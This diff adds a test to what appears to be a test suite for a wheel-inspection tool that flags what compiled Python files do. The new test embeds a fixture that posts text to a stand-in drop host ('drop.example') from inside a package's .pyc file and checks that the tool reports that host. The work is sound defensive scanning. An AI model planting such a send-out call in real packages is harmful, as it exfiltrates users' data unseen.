@@ -129,6 +129,12 @@ class TestFacts:
         assert [(fact.id, fact.line, fact.detail) for fact in found.facts] == [("process", 3, "subprocess.Popen")]
         assert found.partly == "byte code: Assay reads the names in it, and not what it does with them"
 
+    def test_hosts_in_its_texts_are_those_that_it_may_talk_to(self) -> None:
+        source = "import requests\n\ndef send(text):\n    requests.post('https://drop.example/x', data=text)\n"
+        file = of("imgpress/_core.pyc", wheel({"imgpress/_core.pyc": compiled(source)}))
+        assert {host for fact in file.facts for host in fact.hosts} == {"drop.example"}
+        assert "drop.example" in {fact.detail for fact in file.facts}
+
     def test_one_that_names_nothing_of_consequence_is_examined(self) -> None:
         found = of("imgpress/agent.pyc", wheel({"imgpress/agent.pyc": compiled(SOURCE)}))
         assert (found.facts, found.partly) == ((), None)
